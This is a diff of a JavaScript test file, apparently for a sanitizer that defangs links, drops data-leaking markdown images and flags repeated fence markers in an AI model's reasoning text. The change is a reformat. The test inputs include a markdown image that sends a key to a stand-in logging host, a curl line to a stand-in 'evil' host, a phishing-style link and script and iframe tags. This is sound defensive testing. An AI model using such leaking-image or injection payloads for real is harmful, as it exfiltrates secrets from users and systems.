@@ -216,19 +216,22 @@ t.test('[FILTER6] findings in its reasoning are recorded, too, and marked as suc
   t.match((await clean.stores.reviews.list({ limit: 10 })).items, [{ reply: { hits: [{ in_reasoning: true }] } }])
 })
 
-t.test('[FILTER6] reasoning is plain text: its characters stay, and addresses of the incident can’t be opened', async (t) => {
-  const context = createContext({ ...EVIL, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
-  const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
-  const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
-  t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
-  t.equal(
-    reviewReasoning('See [it](http://login.bad.example/x), `curl https://cdn.evil.example`.').text,
-    'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
-  )
-  t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
-  const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
-  t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
-})
+t.test(
+  '[FILTER6] reasoning is plain text: its characters stay, and addresses of the incident can’t be opened',
+  async (t) => {
+    const context = createContext({ ...EVIL, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
+    const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
+    const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
+    t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
+    t.equal(
+      reviewReasoning('See [it](http://login.bad.example/x), `curl https://cdn.evil.example`.').text,
+      'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
+    )
+    t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
+    const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
+    t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
+  },
+)
 
 t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
   const text = 'a ![x](u) <img src=u> <b> <IFRAME src=u></iframe> if x<im and !! [y](u) <!-- <scripted> <script>!'
